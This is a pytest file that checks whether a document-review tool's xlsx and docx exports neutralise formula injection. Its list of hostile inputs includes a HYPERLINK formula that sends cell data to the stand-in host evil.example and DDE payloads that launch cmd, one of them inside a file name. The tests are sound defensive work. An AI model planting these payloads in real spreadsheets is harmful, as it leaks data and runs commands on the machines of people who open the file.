"""Every cell of the review grid's exports is text: a quote, claim or file name that
begins like a formula is never run by a spreadsheet (the red team's
``=HYPERLINK("http://evil.example/?d="&A1)`` was stored as a formula)."""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from letadesk.export.grid import write_grid_docx, write_grid_xlsx
from letadesk.text import one_line

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(1)",  # a full-width equals sign, which some spreadsheets take for one
]
DOCUMENT = "=cmd|' /C calc'!A0.txt"


def _grid() -> dict[str, Any]:
    claims = [
        {"text": text, "citations": [{"quote": text, "page": 1, "locator": "@art. 1"}]}
        for text in HOSTILE
    ]
    cell = {
        "document": DOCUMENT,
        "question": "=1+1",
        "disposition": "answered",
        "claims": claims,
        "audit_id": "-abc",
    }
    return {
        "matter": "=M",
        "rows": [DOCUMENT],
        "columns": ["=1+1"],
        "labels": ["=1+1"],
        "cells": [cell],
    }


def test_no_cell_of_the_workbook_is_a_formula(tmp_path: Path) -> None:
    path = write_grid_xlsx(_grid(), tmp_path / "grid.xlsx")
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
    values: list[str] = []
    for sheet in openpyxl.load_workbook(path).worksheets:
        for line in sheet.iter_rows():
            for item in line:
                if item.value is None:
                    continue
                assert item.data_type == "s", (item.coordinate, item.value)
                values.append(str(item.value))
                risky = str(item.value).startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
                assert bool(item.quotePrefix) == risky, (item.coordinate, item.value)
    assert DOCUMENT in values  # verbatim: nothing added to or cut from the text
    for text in HOSTILE:  # (a claim or quote is one line: a leading tab or CR goes)
        assert one_line(text) in values


@pytest.mark.parametrize("text", HOSTILE)
def test_a_single_hostile_quote_is_kept_verbatim_as_text(tmp_path: Path, text: str) -> None:
    grid = _grid()
    grid["cells"][0]["claims"] = [{"text": text, "citations": [{"quote": text, "page": 2}]}]
    sheet = openpyxl.load_workbook(write_grid_xlsx(grid, tmp_path / "g.xlsx")).worksheets[1]
    row = [c for c in sheet[2]]
    assert row[3].value == one_line(text) and row[3].data_type == "s" and row[3].quotePrefix


def test_the_word_table_holds_no_field(tmp_path: Path) -> None:
    """Word runs fields (DDE, HYPERLINK, INCLUDETEXT) only from field codes; the export
    writes runs of text, so a quote that looks like one stays text."""
    path = write_grid_docx(_grid(), tmp_path / "grid.docx")
    with zipfile.ZipFile(path) as doc:
        xml = doc.read("word/document.xml")
    assert b"fldSimple" not in xml and b"instrText" not in xml and b"fldChar" not in xml
    assert b"HYPERLINK(&quot;http://evil.example" in xml or b'HYPERLINK("http://evil' in xml
